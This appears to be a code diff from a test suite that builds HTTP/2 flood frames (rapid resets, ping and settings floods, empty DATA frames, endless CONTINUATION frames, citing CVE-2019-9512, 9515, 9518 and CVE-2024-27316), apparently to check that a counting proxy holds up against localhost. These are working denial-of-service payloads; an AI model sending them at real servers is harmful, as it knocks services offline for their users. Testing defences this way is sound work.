@@ -54,20 +54,29 @@ function frame(type: number, flags: number, stream: number, payload: Buffer = Bu
   return Buffer.concat([head, payload]);
 }
 
-const [HEADERS, RST_STREAM, SETTINGS, PING] = [1, 3, 4, 6] as const;
+const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [0, 1, 3, 4, 6, 9] as const;
 
-const END_OF_REQUEST = 0x05; // END_STREAM and END_HEADERS
+const END_HEADERS = 0x04;
+const END_OF_REQUEST = END_HEADERS | 0x01; // END_STREAM
 const CANCEL = Buffer.from([0, 0, 0, 8]);
 const PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0)]);
 
-/** The head of a poll that waits, in HPACK (RFC 7541): GET and https by their numbers, a path and a host as they are. */
-const POLL = Buffer.concat([
-  Buffer.from([0x82, 0x87]),
-  ...[[0x04, "/messages?after=now&wait=50"] as const, [0x01, "localhost"] as const].flatMap(([name, value]) => [
-    Buffer.from([name, value.length]),
-    Buffer.from(value),
-  ]),
-]);
+/** A head in HPACK (RFC 7541): method and https by their numbers, the rest by numbers of names, and values as they are. */
+function head(method: 0x82 | 0x83, fields: readonly (readonly [name: readonly number[], value: string])[]): Buffer {
+  return Buffer.concat([
+    Buffer.from([method, 0x87]),
+    ...fields.flatMap(([name, value]) => [Buffer.from([...name, value.length]), Buffer.from(value)]),
+  ]);
+}
+
+const [GET, POST] = [0x82, 0x83] as const;
+const [PATH, AUTHORITY, CONTENT_TYPE] = [[0x04], [0x01], [0x0f, 0x10]] as const;
+
+/** Of a poll that waits. */
+const POLL_HEAD = head(GET, [[PATH, "/messages?after=now&wait=50"], [AUTHORITY, "localhost"]]);
+
+/** Of a post. */
+const POST_HEAD = head(POST, [[PATH, "/messages"], [AUTHORITY, "localhost"], [CONTENT_TYPE, "application/json"]]);
 
 /** What is sent over a connection of HTTP/2, piece by piece, by somebody who means harm. */
 export type Flood = (turn: number) => Buffer;
@@ -76,7 +85,7 @@ export type Flood = (turn: number) => Buffer;
 export function rapidResets(turn: number): Buffer {
   return Buffer.concat(
     Array.from({ length: 50 }, (_, i) => 2 * (50 * turn + i) + 1).flatMap((stream) => [
-      frame(HEADERS, END_OF_REQUEST, stream, POLL),
+      frame(HEADERS, END_OF_REQUEST, stream, POLL_HEAD),
       frame(RST_STREAM, 0, stream, CANCEL),
     ]),
   );
@@ -89,6 +98,20 @@ const PINGS_AND_SETTINGS = Buffer.concat(
 /** Frames that are cheap to send, and each of which has to be answered (CVE-2019-9512, CVE-2019-9515). */
 export function pingsAndSettings(): Buffer {
   return PINGS_AND_SETTINGS;
+}
+
+const EMPTY_DATA = Buffer.concat(Array(1_000).fill(frame(DATA, 0, 1)));
+
+/** A post whose body comes in pieces of nothing (CVE-2019-9518). */
+export function emptyData(turn: number): Buffer {
+  return turn === 0 ? frame(HEADERS, END_HEADERS, 1, POST_HEAD) : EMPTY_DATA;
+}
+
+const CONTINUATIONS = Buffer.concat(Array(100).fill(frame(CONTINUATION, 0, 1, Buffer.alloc(100))));
+
+/** A head that never ends (CVE-2024-27316 and others). */
+export function continuations(turn: number): Buffer {
+  return turn === 0 ? frame(HEADERS, 0, 1, POST_HEAD) : CONTINUATIONS;
 }
 
 /** Pieces over one connection, of which a proxy that counts may take fewer. */
